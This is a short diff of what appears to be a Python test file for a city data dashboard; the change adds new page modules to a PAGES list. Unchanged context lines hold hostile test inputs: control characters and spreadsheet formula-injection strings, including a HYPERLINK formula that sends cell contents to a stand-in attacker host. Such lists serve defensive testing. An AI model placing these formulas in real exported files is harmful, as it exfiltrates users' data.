@@ -27,8 +27,9 @@ CITY = "Hostile City"
 CONTROL = "".join(chr(c) for c in (*range(1, 9), 11, 12, *range(14, 32), 127, 0x85, 0x9F))
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "\t=1+1", "+SUM(1,2)", "-2+3", "@SUM(1)",
             "\r=1+1"]
-PAGES = ["pages/overview.py", "pages/key_features.py", "pages/districts.py", "pages/data_quality.py",
-         "pages/cities.py", "pages/methodology.py", "pages/present.py", "pages/upload.py", "pages/rules.py",
+PAGES = ["pages/overview.py", "pages/key_features.py", "pages/districts.py", "pages/district_map.py",
+         "pages/learning_index.py", "pages/scorecard.py", "pages/data_quality.py", "pages/cities.py",
+         "pages/methodology.py", "pages/indicator.py", "pages/present.py", "pages/upload.py", "pages/rules.py",
          "pages/evidence.py", "pages/history.py"]
 
 
